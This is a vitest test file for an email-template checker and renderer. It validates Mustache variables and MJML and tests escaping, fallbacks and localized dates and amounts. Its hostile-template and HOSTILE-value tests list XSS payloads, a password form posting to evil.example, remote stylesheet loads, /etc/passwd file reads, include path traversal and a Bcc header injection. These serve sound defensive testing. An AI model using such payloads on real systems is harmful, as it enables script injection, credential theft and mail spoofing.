import { describe, expect, test } from 'vitest'
import { SUBJECT_MOST } from '@/lib/marketing/templates/schema'
import { BUILT_IN, kindOf } from '@/lib/platform/mail-templates/built-in'
import { examine, preview, type MailContent } from '@/lib/platform/mail-templates/checks'
import { compile } from '@/lib/platform/mail-templates/compile'
import { mailMaker } from '@/lib/platform/mail-templates/render'
import { starter } from '@/lib/platform/mail-templates/starter'
import {
  addressWord,
  dateWord,
  daysWord,
  mannerOf,
  type Kind,
  type Values,
} from '@/lib/platform/mail-templates/variables'
import { PURPOSES, type DeclaredVariable } from '@/lib/shared/mail-purposes'
import { amountWord } from '@/lib/shared/text/notation'
import { mjmlOf } from '@/tests/support/mail/mjml'

const LETTER: Kind = { category: 'transactional', purpose: null, language: 'en' }
const MARKETING: Kind = { category: 'marketing', purpose: null, language: 'en' }
const declared = (name: string, parts: Partial<DeclaredVariable> = {}): DeclaredVariable => ({
  name,
  type: 'text',
  fallback: '',
  sample: 'a sample',
  ...parts,
})
const content = (body: string, parts: Partial<MailContent> = {}): MailContent => ({
  subject: 'Subject',
  previewText: 'Preview',
  variables: [],
  mjml: mjmlOf(body),
  ...parts,
})
const text = (words: string) => `<mj-text>${words}</mj-text>`
const saidOf = async (given: MailContent, kind = LETTER) =>
  (await preview(given, kind, {})).checks.map(
    ({ severity, where, message }) => `${severity} ${where}: ${message}`,
  )

describe('a check', () => {
  test.each<[name: string, given: MailContent, said: string]>([
    ['an empty subject', content(text('a'), { subject: ' ' }), 'error subject: Write a subject.'],
    [
      'a missing preview text',
      content(text('a'), { previewText: '' }),
      'warning previewText: Without a preview text, programs show the beginning of the mail beside its subject.',
    ],
    [
      'an unknown variable',
      content(text('{{nobody}}')),
      'error mjml: There is no variable nobody.',
    ],
    [
      'an unknown variable of the subject',
      content(text('a'), { subject: '{{nobody}}' }),
      'error subject: There is no variable nobody.',
    ],
    [
      'a variable of another purpose',
      content(text('{{inviter}}')),
      'error mjml: There is no variable inviter.',
    ],
    [
      'what marketing has',
      content(text('{{unsubscribeUrl}}')),
      'error mjml: There is no variable unsubscribeUrl.',
    ],
    [
      'an unguarded variable',
      content(text('{{a}}'), { variables: [declared('a')] }),
      'error mjml: a may be missing: give it a fallback, or write {{#a}}…{{/a}} around it.',
    ],
    [
      'one that another guards',
      content(text('{{#b}}{{a}}{{/b}}'), { variables: [declared('a'), declared('b')] }),
      'error mjml: a may be missing: give it a fallback, or write {{#a}}…{{/a}} around it.',
    ],
    [
      'one where it is missing',
      content(text('{{^a}}{{a}}{{/a}}'), { variables: [declared('a')] }),
      'error mjml: a may be missing: give it a fallback, or write {{#a}}…{{/a}} around it.',
    ],
    [
      'a list in a sentence',
      content(text('{{a}}'), { variables: [declared('a', { type: 'list' })] }),
      'error mjml: a is a list: show its lines with {{#a}}{{.}}{{/a}}.',
    ],
    [
      'a line outside its list',
      content(text('{{.}}')),
      'error mjml: {{.}} is the line of a list: it stands in the section of one.',
    ],
    [
      'yes or no in a sentence',
      content(text('{{a}}'), { variables: [declared('a', { type: 'yes-or-no', sample: 'yes' })] }),
      'error mjml: a is yes or no: let it decide what is shown, with {{#a}}…{{/a}}.',
    ],
    [
      'a section that is not closed',
      content(text('{{#organization}}')),
      'error mjml: This section is not closed: "organization".',
    ],
    [
      'a section that is never opened',
      content(text('{{/organization}}')),
      'error mjml: This section is closed and was never opened: "organization".',
    ],
    [
      'a tag that is not closed',
      content(text('{{organization')),
      'error mjml: This tag is not closed.',
    ],
    [
      'three braces',
      content(text('{{{organization}}}')),
      'error mjml: What a variable holds is always shown as text: write two braces on either side and no &.',
    ],
    [
      'an ampersand',
      content(text('{{&organization}}')),
      'error mjml: What a variable holds is always shown as text: write two braces on either side and no &.',
    ],
    [
      'another template',
      content(text('{{> other}}')),
      'error mjml: A template takes in no other one: take this tag out.',
    ],
    [
      'other braces',
      content(text('{{=<% %>=}}<% organization %>')),
      'error mjml: The braces of tags cannot be changed: take this tag out.',
    ],
    [
      'a walk',
      content(text('{{organization.constructor}}')),
      'error mjml: There is no variable organization.constructor.',
    ],
    [
      'what objects have',
      content(text('{{constructor}}{{__proto__}}')),
      'error mjml: There is no variable constructor.',
    ],
    [
      'braces as entities',
      content(text('&#123;&#123;organization}}')),
      'error mjml: Write braces as they are.',
    ],
    [
      'text that MJML leaves out',
      content('{{#organization}}<mj-text>a</mj-text>{{/organization}}'),
      'error mjml: Text between components is left out: put it into mj-text, and tags into mj-raw.',
    ],
    [
      'tags around everything',
      content('', { mjml: `{{#organization}}${mjmlOf(text('a'))}{{/organization}}` }),
      'error mjml: Text between components is left out: put it into mj-text, and tags into mj-raw.',
    ],
    [
      'a variable in a style',
      content(text('<p style="color:{{organization}}">a</p>')),
      'error mjml: A variable cannot stand in the attribute style: use it in text, in href, src, alt or title.',
    ],
    [
      'a host that is filled in',
      content(text('<a href="https:{{organization}}">a</a>')),
      'error mjml: In an address a variable may only stand behind https and the name of a host, or be all of it.',
    ],
    [
      'a section in an address',
      content(text('<a href="{{#organization}}javascript:a{{/organization}}">a</a>')),
      'error mjml: In an address a variable may only stand behind https and the name of a host, or be all of it.',
    ],
    [
      'a variable in a background',
      content(
        '</mj-column></mj-section><mj-section background-url="https://a.example/{{organization}}"><mj-column>',
      ),
      'error mjml: In an address a variable may only stand behind https and the name of a host, or be all of it.',
    ],
    [
      'a text as a link',
      content(text('<a href="{{organization}}">a</a>')),
      'error mjml: organization is no address: only a variable of the type web or mail address can be a link.',
    ],
    [
      'an image without alt text',
      content('<mj-image src="https://a.example/a.png" />'),
      'error mjml: An image has no alt text: say what it shows, or write alt="" where it says nothing.',
    ],
    [
      'a link to nowhere',
      content(text('<a href="#">a</a>')),
      'warning mjml: A link leads nowhere.',
    ],
    [
      'a link that is not encrypted',
      content(text('<a href="http://a.example">a</a>')),
      'warning mjml: http://a.example is not encrypted: use https if there is such an address.',
    ],
    [
      'a link within a page',
      content(text('<a href="/home">a</a>')),
      'error mjml: “/home” is not allowed here: a link leads to https, mailto or tel.',
    ],
    [
      'an unknown element',
      content('<mj-foo>a</mj-foo>'),
      "error mjml: Element mj-foo doesn't exist or is not registered.",
    ],
    [
      'what MJML does not know',
      content('<mj-text colour="red">a</mj-text>'),
      'warning mjml: Attribute colour is illegal.',
    ],
    [
      'a component that is not closed',
      content('<mj-text>a'),
      'error mjml: This mj-text is not closed: write </mj-text> where it ends.',
    ],
    [
      'no MJML',
      content('', { mjml: '<p>a</p>' }),
      'error mjml: This is not MJML: begin with <mjml>, and write the content in <mj-body>.',
    ],
    [
      'more than a mail',
      content(text('<b></b>'.repeat(2500))),
      'error mjml: This is too much for a mail: 2000 elements, 60 deep, are the most.',
    ],
    [
      'what is too deep',
      content(text('<b>'.repeat(5000))),
      'error mjml: This is too much for a mail: 2000 elements, 60 deep, are the most.',
    ],
    [
      'more than is shown',
      content(text('word '.repeat(25_000))),
      'error mjml: The mail has 125 KB: from 102 KB on some programs show only its beginning.',
    ],
    [
      'what nothing uses',
      content(text('a'), { variables: [declared('a')] }),
      'warning variables: Nothing uses a.',
    ],
    [
      'a missing sample',
      content(text('{{#a}}{{a}}{{/a}}'), { variables: [declared('a', { sample: '' })] }),
      'warning variables: a has no sample: previews show nothing of it.',
    ],
    [
      'a sample of another type',
      content(text('{{#a}}{{a}}{{/a}}'), { variables: [declared('a', { type: 'date' })] }),
      'warning variables: The sample of a does not fit its type.',
    ],
    [
      'a fallback of another type',
      content(text('{{a}}'), {
        variables: [
          declared('a', {
            type: 'address',
            fallback: 'javascript:alert(1)',
            sample: 'https://a.example',
          }),
        ],
      }),
      'error variables: The fallback of a does not fit its type.',
    ],
    [
      'a variable of ours',
      content(text('{{postalAddress}}'), { variables: [declared('postalAddress')] }),
      'error variables: postalAddress is filled in by the console and never missing: take it out.',
    ],
  ])('finds %s', async (_name, given, said) => {
    expect(await saidOf(given)).toContain(said)
  })

  test.each<[name: string, given: MailContent, kind: Kind]>([
    [
      'guards',
      content(text('{{#a}}{{a}}{{/a}}{{^a}}Nothing{{/a}}'), { variables: [declared('a')] }),
      LETTER,
    ],
    [
      'fallbacks',
      content(text('{{a}}'), { variables: [declared('a', { fallback: 'b' })] }),
      LETTER,
    ],
    [
      'lists',
      content('<mj-raw>{{#a}}</mj-raw><mj-text>{{.}}</mj-text><mj-raw>{{/a}}</mj-raw>', {
        variables: [declared('a', { type: 'list' })],
      }),
      LETTER,
    ],
    [
      'links and pictures',
      content(
        text('<a href="{{a}}" title="{{organization}}">a</a> <a href="mailto:a@b.example">b</a>') +
          '<mj-image src="https://a.example/a.png" alt="" />',
        {
          variables: [
            declared('a', {
              type: 'address',
              sample: 'https://a.example',
              fallback: 'https://b.example',
            }),
          ],
        },
      ),
      LETTER,
    ],
    [
      'variables in an address',
      content(text('<a href="https://a.example/?of={{organization}}">a</a>')),
      LETTER,
    ],
    [
      'styles of the head',
      content('', {
        mjml: `<mjml><mj-head><mj-style>.a { color: red }</mj-style></mj-head><mj-body><mj-section><mj-column>${text('a')}</mj-column></mj-section></mj-body></mjml>`,
      }),
      LETTER,
    ],
    [
      'a fallback for a name',
      content(
        text('{{firstName}}, {{postalAddress}} <a href="{{unsubscribeUrl}}">Unsubscribe</a>'),
        { variables: [declared('firstName', { fallback: 'you' })] },
      ),
      MARKETING,
    ],
    ...PURPOSES.map(
      (purpose) =>
        [
          `the product’s own: ${purpose}`,
          { ...BUILT_IN[purpose], variables: [] },
          kindOf(purpose),
        ] as [string, MailContent, Kind],
    ),
    [
      'what a template begins with',
      { ...starter(MARKETING), subject: 'a', previewText: 'a' },
      MARKETING,
    ],
  ])('has nothing to say of %s', async (_name, given, kind) => {
    expect(await saidOf(given, kind)).toEqual([])
  })

  test.each(PURPOSES)(
    'of the product’s own %s: its subject fits into the form that changes it',
    (purpose) => {
      expect(BUILT_IN[purpose].subject.length).toBeLessThanOrEqual(SUBJECT_MOST)
    },
  )

  test('asks of marketing for a way out and an address, and where that is', async () => {
    const said = await saidOf(content(text('{{unsubscribeUrl}} {{firstName}}')), MARKETING)
    expect(said).toEqual([
      'error mjml: firstName may be missing: give it a fallback, or write {{#firstName}}…{{/firstName}} around it.',
      'error mjml: The link to unsubscribe is missing: write href="{{unsubscribeUrl}}" on a link with a text, outside of sections.',
      'error mjml: The postal address is missing: write {{postalAddress}} in a text, outside of sections.',
    ])
  })

  const LINK = '<a href="{{unsubscribeUrl}}">U</a>'
  test.each([
    [
      'in a section that is never shown',
      `{{^organization}}${LINK} {{postalAddress}}{{/organization}}`,
    ],
    ['in one that may be missing', `{{#firstName}}${LINK} {{postalAddress}}{{/firstName}}`],
    [
      'in what says nothing',
      `{{! ${LINK} }} <a href="{{preferencesUrl}}" title="{{postalAddress}}">b</a>`,
    ],
    [
      'with nothing to click on',
      '<a href="{{unsubscribeUrl}}">{{#firstName}}U{{/firstName}}&nbsp;</a>',
    ],
  ])('finds neither %s', async (_name, words) => {
    const said = await saidOf(
      content(text(`hi ${words}`), { subject: '{{postalAddress}}' }),
      MARKETING,
    )
    expect(said).toEqual([
      expect.stringContaining('link to unsubscribe is missing'),
      expect.stringContaining('postal address is missing'),
    ])
  })

  test('finds neither in what MJML leaves out', async () => {
    const left = `<MJ-TEXT>${LINK} {{postalAddress}}</MJ-TEXT>`
    expect(await saidOf(content(text('a') + left), MARKETING)).toEqual([
      'error mjml: Write mj-text in lower case: MJML leaves out what it does not know.',
      expect.stringContaining('link to unsubscribe is missing'),
      expect.stringContaining('postal address is missing'),
    ])
    const { mjml, ...more } = content(text('a'))
    const second = `<mj-body><mj-section><mj-column>${text(`${LINK} {{postalAddress}}`)}</mj-column></mj-section></mj-body></mjml>`
    const said = await saidOf({ ...more, mjml: mjml.replace('</mjml>', second) }, MARKETING)
    expect(said.some((one) => one.includes('link to unsubscribe is missing'))).toBe(true)
  })

  test('names the line', async () => {
    const { checks } = await examine(
      content('\n\n<mj-text>\n{{a}}</mj-text>\n<mj-text><b onclick="x()">b</b></mj-text>'),
      LETTER,
    )
    expect(checks.map(({ line }) => line)).toEqual([4, 5])
  })
})

describe('a hostile template', () => {
  const image = (attributes: string) => `<mj-image alt="a" ${attributes} />`
  test.each([
    text('<script>alert(1)</script>'),
    text('<SCRIPT SRC=https://evil.example/x.js></SCRIPT>'),
    text('<img src=x alt=a onerror=alert(1)>'),
    text('<svg onload=alert(1)>'),
    text('<svg><animate onbegin=alert(1) attributeName=x></svg>'),
    text('<math><mi xlink:href="javascript:alert(1)">a</mi></math>'),
    text('<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    text('<object data="data:text/html,<script>alert(1)</script>"></object>'),
    text('<form action="https://evil.example"><input name=password></form>'),
    text('<base href="https://evil.example">'),
    text('<meta http-equiv=refresh content="0;url=https://evil.example">'),
    text('<link rel=stylesheet href="https://evil.example/a.css">'),
    text('<style>@import "https://evil.example/a.css"</style>'),
    text('<p style="background:url(https://evil.example/a)">a</p>'),
    text('<p style="width:expression(alert(1))">a</p>'),
    text('<a href="javascript:alert(1)">a</a>'),
    text('<a href=" java\nscript:alert(1)">a</a>'),
    text('<a href="&#106;avascript:alert(1)">a</a>'),
    text('<a href="JaVaScRiPt&colon;alert(1)">a</a>'),
    text('<a href="vbscript:msgbox(1)">a</a>'),
    text('<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>'),
    text('<a href="file:///etc/passwd">a</a>'),
    text('<a href="https:{{organization}}" onmouseover="alert(1)">a</a>'),
    text('<!-- {{organization}} --><!--><script>alert(1)</script>'),
    text('<template><script>alert(1)</script></template>'),
    '<mj-button href="javascript:alert(1)">a</mj-button>',
    `<mj-button href='x" onclick="alert(1)'>a</mj-button>`,
    `<mj-text css-class='a" onmouseover="alert(1)'>a</mj-text>`,
    image('src="data:image/svg+xml,<svg onload=alert(1)>"'),
    image('src="file:///etc/passwd"'),
    image('src="cid:secret"'),
    image('src="//evil.example/a.png"'),
    '<mj-raw><script>alert(1)</script></mj-raw>',
    '<mj-raw>any text</mj-raw>',
    '<mj-include path="/etc/passwd" type="html" />',
    '<mj-include path="../../package.json" />',
    '<constructor>a</constructor>',
    '</mj-column></mj-section><mj-section background-url="javascript:alert(1)"><mj-column>',
    '</mj-column></mj-section></mj-body><mj-head><mj-html-attributes><mj-selector path="a"><mj-html-attribute name="onclick">alert(1)</mj-html-attribute></mj-selector></mj-html-attributes></mj-head><mj-body><mj-section><mj-column>',
    '</mj-column></mj-section></mj-body><mj-head><mj-raw><script>alert(1)</script></mj-raw></mj-head><mj-body><mj-section><mj-column>',
    '</mj-column></mj-section></mj-body><mj-head><mj-style>a{} </style><script>alert(1)</script></mj-style></mj-head><mj-body><mj-section><mj-column>',
    '</mj-column></mj-section></mj-body><mj-head><mj-font name="a" href="https://evil.example/a.css" /></mj-head><mj-body><mj-section><mj-column>',
    '</mj-column></mj-section></mj-body><mj-head><mj-title></title><script>alert(1)</script></mj-title></mj-head><mj-body><mj-section><mj-column>',
  ])('is not published: %s', async (body) => {
    expect((await saidOf(content(body))).filter((said) => said.startsWith('error'))).not.toEqual([])
  })

  test('reads no file, whatever it names', async () => {
    for (const path of ['package.json', `${process.cwd()}/package.json`, '/etc/passwd']) {
      const { compiled } = await compile(
        mjmlOf(`<mj-include path="${path}" type="html" />${text('a')}`),
        'en',
      )
      expect(compiled!.html).not.toMatch(/polyclinic|root:|mj-include/)
    }
  })
})

describe('a mail', () => {
  const fill = async (given: MailContent, values: Values, kind = LETTER) => {
    const { compiled } = await examine(given, kind)
    return mailMaker({ ...given, ...kind, ...compiled! })(values)
  }
  const whole = content(
    text(
      '<b>{{a}}</b> <a href="{{link}}">there</a>{{#lines}}<p>{{.}}</p>{{/lines}}{{#yes}}<p>Yes</p>{{/yes}}{{^yes}}<p>No</p>{{/yes}}',
    ),
    {
      subject: 'About {{a}}',
      previewText: 'On {{day}}',
      variables: [
        declared('a', { fallback: 'nobody' }),
        declared('link', { type: 'address', fallback: 'https://fallback.example' }),
        declared('day', { type: 'date', fallback: '2026-01-31' }),
        declared('lines', { type: 'list' }),
        declared('yes', { type: 'yes-or-no' }),
        declared('count', { type: 'number', fallback: '0' }),
      ],
    },
  )

  test('shows what is given as text, and its links as they are', async () => {
    const values = {
      a: 'Ann & <Bo>',
      link: 'https://a.example/?a=1&b=2',
      day: '2026-11-30',
      lines: ['one', 'two'],
      yes: true,
    }
    const { subject, previewText, html, text } = await fill(whole, values)
    expect([subject, previewText]).toEqual(['About Ann & <Bo>', 'On 30 November 2026'])
    expect(html).toContain('<title>About Ann &amp; &lt;Bo&gt;</title>')
    expect(html).toContain(
      '<b>Ann &amp; &lt;Bo&gt;</b> <a href="https://a.example/?a=1&amp;b=2">there</a><p>one</p><p>two</p><p>Yes</p>',
    )
    expect(html).toMatch(/^<!doctype html>\n<html lang="en"/)
    expect(text).toBe('Ann & <Bo> there (https://a.example/?a=1&b=2)\n\none\n\ntwo\n\nYes\n')
  })

  test('shows fallbacks for what is missing or of no use', async () => {
    for (const values of [
      {},
      { a: '', link: 'javascript:alert(1)', day: 'soon', lines: [], yes: null },
      { a: '  ', link: 'https://a.example/" onclick="x', day: '', yes: 'no' },
    ]) {
      const { subject, previewText, text } = await fill(whole, values)
      expect([subject, previewText, text]).toEqual([
        'About nobody',
        'On 31 January 2026',
        'nobody there (https://fallback.example)\n\nNo\n',
      ])
    }
  })

  test.each([
    ['عيادة النور (Al Noor)', '\u2068عيادة النور (Al Noor)\u2069'],
    ['מרפאה', '\u2068מרפאה\u2069'],
    ['医療法人社団 髙橋診療所', '医療法人社団 髙橋診療所'],
    ['Ärztehaus', 'Ärztehaus'],
  ])(
    'keeps the order of %s within a sentence that is written from left to right',
    async (a, shown) => {
      const { subject, html, text } = await fill(whole, { a })
      expect(subject).toBe(`About ${shown}`)
      expect(html).toContain(`<b>${shown}</b>`)
      expect(text).toMatch(new RegExp(`^${shown.replace(/[()]/g, '.')} there`))
    },
  )

  test('is in the language of its template', async () => {
    const { previewText, html } = await fill(
      whole,
      { day: '2026-03-01' },
      { ...LETTER, language: 'de' },
    )
    expect(previewText).toBe('On 1. März 2026')
    expect(html).toContain('<html lang="de"')
  })

  const HOSTILE = [
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '{{constructor}}',
    '{{{organization}}}',
    '{{#organization}}',
    '{{=<% %>=}}',
    '</title></style><svg onload=alert(1)>',
    'a\r\nBcc: evil@evil.example\r\n\r\n<script>',
    'a\u2028b\u0000c\u0085d',
    '-->\u003cscript>alert(1)</script>',
    'javascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'file:///etc/passwd',
  ]
  test.each(HOSTILE)(
    'holds nothing that runs, names another header or fills in more: %j',
    async (value) => {
      const values = {
        a: value,
        link: value,
        day: value,
        lines: [value, value],
        yes: value,
        count: value,
        nobody: value,
        organization: value,
      }
      const { subject, previewText, html, text } = await fill(whole, values)
      for (const line of [subject, previewText])
        expect(line).not.toMatch(/[\r\n\u2028\u0000\u0085]/)
      const quiet = await fill(whole, { a: 'x', link: 'https://x.example', lines: ['x', 'x'] })
      const marks = (markup: string) =>
        markup.match(/<\/?[a-z][^>]*>/gi)!.map((tag) => tag.replace(/"[^"]*"/g, '""'))
      expect(marks(html)).toEqual(marks(quiet.html))
      expect(html).toContain('href="https://fallback.example"')
      expect(text).toContain('there (https://fallback.example)')
    },
  )

  test.each<[value: string, language: string, shown: string | undefined]>([
    ['2026-11-30', 'en', '30 November 2026'],
    ['2026-11-30T09:30:00Z', 'en', 'Monday, 30 November 2026 at 09:30 UTC'],
    ['2026-11-30T23:30:00-05:00', 'de', 'Dienstag, 1. Dezember 2026 um 04:30 UTC'],
    ['2026-13-01', 'en', undefined],
    ['tomorrow', 'en', undefined],
    ['1', 'en', undefined],
  ])('says the date %s in %s as %s', (value, language, shown) =>
    expect(dateWord(value, mannerOf({ language }))).toBe(shown),
  )

  test.each<[language: string, locale: string | undefined, said: string]>([
    ['en', undefined, '1,234.50 NOK, 1 March 2026, tomorrow'],
    ['en', 'en-US', '1,234.50 NOK, March 1, 2026, tomorrow'],
    ['en', 'nb-NO', '1 234,50 NOK, 1 March 2026, tomorrow'],
    ['de', 'de-CH', '1’234.50 NOK, 1. März 2026, morgen'],
    ['de', undefined, '1.234,50 NOK, 1. März 2026, morgen'],
  ])('in %s for %s says: %s', (language, locale, said) => {
    const manner = mannerOf({ language, locale })
    const amount = amountWord({ amount: 123_450, currency: 'NOK' }, manner)
    const words = [amount, dateWord('2026-03-01', manner), daysWord(1, manner)].join(', ')
    expect(words.replace(/[\u00a0\u202f]/g, ' ').replace("'", '’')).toBe(said)
  })

  test.each([
    ['https://a.example/b?c=d#e', true],
    ['http://a.example', true],
    ['mailto:a@b.example', true],
    ['HTTPS://A.example', true],
    ['javascript:alert(1)', false],
    ['data:text/html,a', false],
    ['//a.example', false],
    ['/a', false],
    ['https://', false],
    ['https://a.example/"b', false],
    ['https://a b', false],
  ])('takes the address %s: %s', (value, taken) =>
    expect(addressWord(value)).toBe(taken ? value : undefined),
  )

  test('says how far away a day is', () => {
    expect([0, 1, 12, -1, -3].map((days) => daysWord(days, mannerOf({ language: 'en' })))).toEqual([
      'today',
      'tomorrow',
      'in 12 days',
      'yesterday',
      '3 days ago',
    ])
  })
})
